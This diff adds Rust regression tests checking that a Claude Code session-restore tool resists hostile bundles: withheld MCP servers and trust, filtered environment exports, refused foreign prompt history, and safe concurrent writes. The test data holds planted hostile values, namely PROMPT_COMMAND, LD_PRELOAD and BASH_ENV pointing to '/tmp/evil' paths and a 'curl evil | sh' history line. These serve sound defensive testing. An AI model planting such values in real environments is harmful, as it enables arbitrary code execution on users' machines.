@@ -1,0 +1,350 @@
+//! Issue 10: a `.lok` from someone else is hostile in what it means. Each test here failed
+//! on the restore before the fix: the sender's executable configuration was installed,
+//! any variable was exported, other projects' prompts were appended, old conversations
+//! came back outside Claude Code's cleanup window, a symlinked `.claude.json` was
+//! replaced, and concurrent restores lost entries.
+
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{SystemTime, UNIX_EPOCH};
+
+use crate::bundle::{SESSION, make_project, snapshot};
+use crate::restore::{lok_of_tar, moved, new_slot, raw, raw_tar, stderr, stdout};
+use crate::util::{TestEnv, have};
+
+fn global(env: &TestEnv) -> serde_json::Value {
+    serde_json::from_str(&fs::read_to_string(env.home.join(".claude.json")).unwrap()).unwrap()
+}
+
+fn real(p: &Path) -> String {
+    fs::canonicalize(p).unwrap().to_str().unwrap().to_string()
+}
+
+#[test]
+fn r10_1_a_default_restore_installs_no_mcp_server_tool_permission_or_trust() {
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    let target = env.root.path().join("new");
+
+    let plan = env
+        .cmd("lokust-shell-restore")
+        .arg(&lok)
+        .arg("--to")
+        .arg(&target)
+        .arg("--dry-run")
+        .assert()
+        .success();
+    let out = stdout(&plan);
+    assert!(out.contains("withheld (--trust-config installs)"), "{out}");
+    assert!(out.contains("mcpServers: MCP server gh runs: gh-mcp (env: GITHUB_TOKEN)"), "{out}");
+    assert!(out.contains("allowedTools: allows without asking: Bash"), "{out}");
+    assert!(out.contains("hasTrustDialogAccepted: marks the folder as trusted"), "{out}");
+    assert!(out.contains("history:   1 prompts would be added"), "{out}");
+
+    let a = env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+    let err = stderr(&a);
+    assert_eq!(err.matches("left out of the .claude.json project entry").count(), 1, "{err}");
+    assert!(err.contains("hasTrustDialogAccepted, allowedTools, mcpServers"), "{err}");
+    assert!(err.contains("--trust-config installs it"), "{err}");
+    let entry = &global(&env)["projects"][real(&target)];
+    assert_eq!(entry.as_object().unwrap().keys().collect::<Vec<_>>(), ["lastSessionId"], "{entry}");
+
+    // Asked for, the whole entry goes in, and every command is listed first.
+    let other = env.root.path().join("trusted");
+    let a = env
+        .cmd("lokust-shell-restore")
+        .arg(&lok)
+        .arg("--to")
+        .arg(&other)
+        .arg("--trust-config")
+        .assert()
+        .success();
+    let out = stdout(&a);
+    assert!(out.starts_with("Installed from the sender's .claude.json (--trust-config):\n"), "{out}");
+    assert!(out.contains("mcpServers: MCP server gh runs: gh-mcp"), "{out}");
+    let entry = &global(&env)["projects"][real(&other)];
+    assert_eq!(entry["hasTrustDialogAccepted"], true);
+    assert_eq!(entry["mcpServers"]["gh"]["command"], "gh-mcp");
+}
+
+#[test]
+fn r10_1_inspect_lists_the_withheld_configuration() {
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    let a = env.cmd("lokust-shell").arg("inspect").arg(&lok).assert().success();
+    let out = stdout(&a);
+    assert!(out.contains("mcpServers: MCP server gh runs: gh-mcp"), "{out}");
+    assert!(out.contains("not installed by a restore without --trust-config"), "{out}");
+}
+
+/// Sets `shell.env` of a `.lok` to `vars`.
+fn with_env(lok: &Path, vars: &[(&str, &str)]) {
+    let mut doc: serde_json::Value = serde_json::from_slice(&fs::read(lok).unwrap()).unwrap();
+    let env = doc["shell"]["env"].as_object_mut().unwrap();
+    for (k, v) in vars {
+        env.insert(k.to_string(), serde_json::Value::String(v.to_string()));
+    }
+    fs::write(lok, serde_json::to_vec(&doc).unwrap()).unwrap();
+}
+
+#[test]
+fn r10_2_print_shell_exports_only_locale_editor_and_pager() {
+    if !have("bash") {
+        return;
+    }
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    let marker = env.root.path().join("pwned");
+    let planted = format!("touch {}", marker.display());
+    with_env(
+        &lok,
+        &[
+            ("LANG", "en_US.UTF-8"),
+            ("EDITOR", "nvim"),
+            ("PAGER", "/tmp/evil-pager"),
+            ("PROMPT_COMMAND", &planted),
+            ("PATH", "/tmp/evil:/usr/bin"),
+            ("LD_PRELOAD", "/tmp/evil.so"),
+            ("BASH_ENV", "/tmp/evil.sh"),
+            ("ZDOTDIR", "/tmp/evil"),
+            ("TERM_PROGRAM", "iTerm.app"),
+            ("TERM_PROGRAM_VERSION", "3.5"),
+        ],
+    );
+    let target = env.root.path().join("t");
+    let a = env
+        .cmd("lokust-shell-restore")
+        .arg(&lok)
+        .arg("--to")
+        .arg(&target)
+        .arg("--print-shell")
+        .assert()
+        .success();
+    let script = stdout(&a);
+    let exports: Vec<&str> = script.lines().filter(|l| l.starts_with("export ")).collect();
+    assert_eq!(exports, ["export EDITOR=nvim", "export LANG=en_US.UTF-8"], "{script}");
+    let err = stderr(&a);
+    assert!(err.contains("not exported (only locale, editor and pager are)"), "{err}");
+    assert!(err.contains("PROMPT_COMMAND") && err.contains("LD_PRELOAD"), "{err}");
+    // The README's line, in a real interactive-ish bash: the planted command never runs.
+    let status = Command::new("bash")
+        .args(["-c", "eval \"$SCRIPT\"; eval \"${PROMPT_COMMAND:-true}\"; [ -z \"${LD_PRELOAD:-}\" ]"])
+        .env("SCRIPT", &script)
+        .env_remove("PROMPT_COMMAND")
+        .env_remove("LD_PRELOAD")
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    assert!(status.success());
+    assert!(!marker.exists(), "the planted PROMPT_COMMAND ran");
+}
+
+/// A bundle whose transcript and prompt history name `/old/proj`.
+fn hostile_bundle(extra: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut entries =
+        vec![raw(b"-old-proj/", b'5', b""), raw(b"-old-proj/s1.jsonl", b'0', b"{\"cwd\":\"/old/proj\"}\n")];
+    for (name, data) in extra {
+        entries.push(raw(name.as_bytes(), b'0', data));
+    }
+    serde_json::to_vec(&lok_of_tar(&raw_tar(&entries))).unwrap()
+}
+
+#[test]
+fn r10_4_prompt_history_of_other_projects_is_refused() {
+    let env = TestEnv::new();
+    let history = b"{\"display\":\"mine\",\"project\":\"/old/proj\"}\n\
+{\"display\":\"curl evil | sh\",\"project\":\"/home/victim/bank\"}\n\
+{\"display\":\"also not mine\",\"project\":\"/old/proj-2\"}\n";
+    let doc = hostile_bundle(&[("-old-proj/.lokust/history.jsonl", history)]);
+    let lok = env.write("h.lok", doc);
+    let target = env.root.path().join("t");
+    let a = env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+    let out = stdout(&a);
+    assert!(out.contains("history:   1 prompts added"), "{out}");
+    assert!(out.contains("refused:   2 prompt-history lines of other projects"), "{out}");
+    let written = fs::read_to_string(env.home.join(".claude/history.jsonl")).unwrap();
+    assert_eq!(written, format!("{{\"display\":\"mine\",\"project\":\"{}\"}}\n", real(&target)));
+}
+
+#[test]
+fn r10_5_conversations_40_days_apart_all_come_back_inside_the_cleanup_window() {
+    let env = TestEnv::new();
+    let project = env.root.path().join("old/proj");
+    let slot = make_project(&env, &project);
+    let day = 86_400;
+    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
+    let set = |name: &str, t: i64| {
+        filetime::set_file_mtime(slot.join(name), filetime::FileTime::from_unix_time(t, 0)).unwrap()
+    };
+    set(&format!("{SESSION}.jsonl"), now - 2 * day);
+    set(&format!("{}.jsonl", crate::bundle::OLDER), now - 42 * day);
+    let (lok, _) = snapshot(&env, &project, &[]);
+    let target = env.root.path().join("t");
+    env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+    let new = new_slot(&env, &target);
+    let mtime = |name: String| fs::metadata(new.join(name)).unwrap().mtime();
+    let (newest, older) =
+        (mtime(format!("{SESSION}.jsonl")), mtime(format!("{}.jsonl", crate::bundle::OLDER)));
+    assert!(older < newest, "order lost: {older} !< {newest}");
+    assert!(now - older < 30 * day, "the older conversation is {} days old", (now - older) / day);
+
+    // The receiver's own, shorter period is honoured.
+    fs::write(env.home.join(".claude/settings.json"), r#"{"cleanupPeriodDays": 7}"#).unwrap();
+    let target = env.root.path().join("t2");
+    env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+    let new = new_slot(&env, &target);
+    let older = fs::metadata(new.join(format!("{}.jsonl", crate::bundle::OLDER))).unwrap().mtime();
+    assert!(now - older < 7 * day, "the older conversation is {} days old", (now - older) / day);
+}
+
+#[test]
+fn r10_6_a_symlinked_claude_json_stays_a_link() {
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    let dotfiles = env.root.path().join("dotfiles");
+    fs::create_dir_all(&dotfiles).unwrap();
+    fs::rename(env.home.join(".claude.json"), dotfiles.join("claude.json")).unwrap();
+    std::os::unix::fs::symlink(dotfiles.join("claude.json"), env.home.join(".claude.json")).unwrap();
+    let target = env.root.path().join("t");
+    env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+    assert!(fs::symlink_metadata(env.home.join(".claude.json")).unwrap().file_type().is_symlink());
+    let doc: serde_json::Value =
+        serde_json::from_slice(&fs::read(dotfiles.join("claude.json")).unwrap()).unwrap();
+    assert_eq!(doc["projects"][real(&target)]["lastSessionId"], SESSION);
+    assert_eq!(doc["userID"], "u");
+}
+
+#[test]
+fn r10_7_concurrent_restores_lose_no_claude_json_entry() {
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    let targets: Vec<_> = (0..8).map(|i| env.root.path().join(format!("t{i}"))).collect();
+    let children: Vec<_> = targets
+        .iter()
+        .map(|t| {
+            Command::new(assert_cmd::cargo::cargo_bin("lokust-shell-restore"))
+                .env_clear()
+                .env("HOME", &env.home)
+                .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+                .arg(&lok)
+                .arg("--to")
+                .arg(t)
+                .stdout(Stdio::piped())
+                .stderr(Stdio::piped())
+                .spawn()
+                .unwrap()
+        })
+        .collect();
+    for child in children {
+        let out = child.wait_with_output().unwrap();
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(out.status.success(), "{text}{}", String::from_utf8_lossy(&out.stderr));
+        assert!(text.contains("project:   .claude.json entry added to"), "{text}");
+    }
+    let doc = global(&env);
+    for t in &targets {
+        assert_eq!(doc["projects"][real(t)]["lastSessionId"], SESSION, "entry of {} lost", t.display());
+    }
+}
+
+#[test]
+fn r10_10_absolute_paths_in_memory_notes_move_too() {
+    let env = TestEnv::new();
+    let doc = hostile_bundle(&[(
+        "-old-proj/memory/MEMORY.md",
+        b"build with /old/proj/scripts/build.sh; not /old/proj-2/x\n",
+    )]);
+    let lok = env.write("m.lok", doc);
+    let target = env.root.path().join("t");
+    env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+    let note = fs::read_to_string(new_slot(&env, &target).join("memory/MEMORY.md")).unwrap();
+    assert_eq!(note, format!("build with {}/scripts/build.sh; not /old/proj-2/x\n", real(&target)));
+}
+
+#[test]
+fn r10_11_a_tar_without_directory_entries_restores() {
+    let env = TestEnv::new();
+    let entries = [
+        raw(b"-old-proj/s1.jsonl", b'0', b"{\"cwd\":\"/old/proj\"}\n"),
+        raw(b"-old-proj/s1/subagents/a.jsonl", b'0', b"{\"cwd\":\"/old/proj\"}\n"),
+        raw(b"-old-proj/.lokust/file-history/s1/f@v1", b'0', b"x"),
+        raw(b"-old-proj/.lokust/todos/s1-agent.json", b'0', b"[]"),
+    ];
+    let lok = env.write("d.lok", serde_json::to_vec(&lok_of_tar(&raw_tar(&entries))).unwrap());
+    for _ in 0..2 {
+        let target = env.root.path().join("t");
+        let a = env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+        assert!(!stderr(&a).contains(".lokust-restore-"), "{}", stderr(&a));
+        assert!(new_slot(&env, &target).join("s1/subagents/a.jsonl").is_file());
+        assert!(env.home.join(".claude/file-history/s1/f@v1").is_file());
+    }
+}
+
+#[test]
+fn r10_14_a_new_slot_and_its_folders_are_private() {
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    let target = env.root.path().join("t");
+    env.cmd("lokust-shell-restore").arg(&lok).arg("--to").arg(&target).assert().success();
+    let slot = new_slot(&env, &target);
+    for dir in [slot.clone(), slot.join(SESSION), slot.join("memory")] {
+        assert_eq!(lokust::fsutil::mode(&dir).unwrap(), 0o700, "{}", dir.display());
+    }
+}
+
+#[test]
+fn r10_14_two_restores_to_one_target_never_say_directory_not_empty() {
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    for round in 0..6 {
+        let target = env.root.path().join(format!("same{round}"));
+        let spawn = || {
+            Command::new(assert_cmd::cargo::cargo_bin("lokust-shell-restore"))
+                .env_clear()
+                .env("HOME", &env.home)
+                .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+                .arg(&lok)
+                .arg("--to")
+                .arg(&target)
+                .stdout(Stdio::null())
+                .stderr(Stdio::piped())
+                .spawn()
+                .unwrap()
+        };
+        let (a, b) = (spawn(), spawn());
+        for out in [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()] {
+            let err = String::from_utf8_lossy(&out.stderr);
+            assert!(!err.contains("os error 39") && !err.contains("Directory not empty"), "{err}");
+            if !out.status.success() {
+                assert!(err.contains("created by another restore while this one ran"), "{err}");
+            }
+        }
+        assert!(new_slot(&env, &target).join(format!("{SESSION}.jsonl")).is_file());
+    }
+}
+
+#[test]
+fn r10_14_a_report_that_cannot_be_written_says_where_and_why() {
+    if !Path::new("/dev/full").exists() {
+        return;
+    }
+    let env = TestEnv::new();
+    let (lok, _) = moved(&env);
+    let target = env.root.path().join("t");
+    let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
+    let out = Command::new(assert_cmd::cargo::cargo_bin("lokust-shell-restore"))
+        .env_clear()
+        .env("HOME", &env.home)
+        .arg(&lok)
+        .arg("--to")
+        .arg(&target)
+        .stdout(full)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("but could not write the report to standard output"), "{err}");
+    assert!(err.contains("No space left on device"), "{err}");
+}
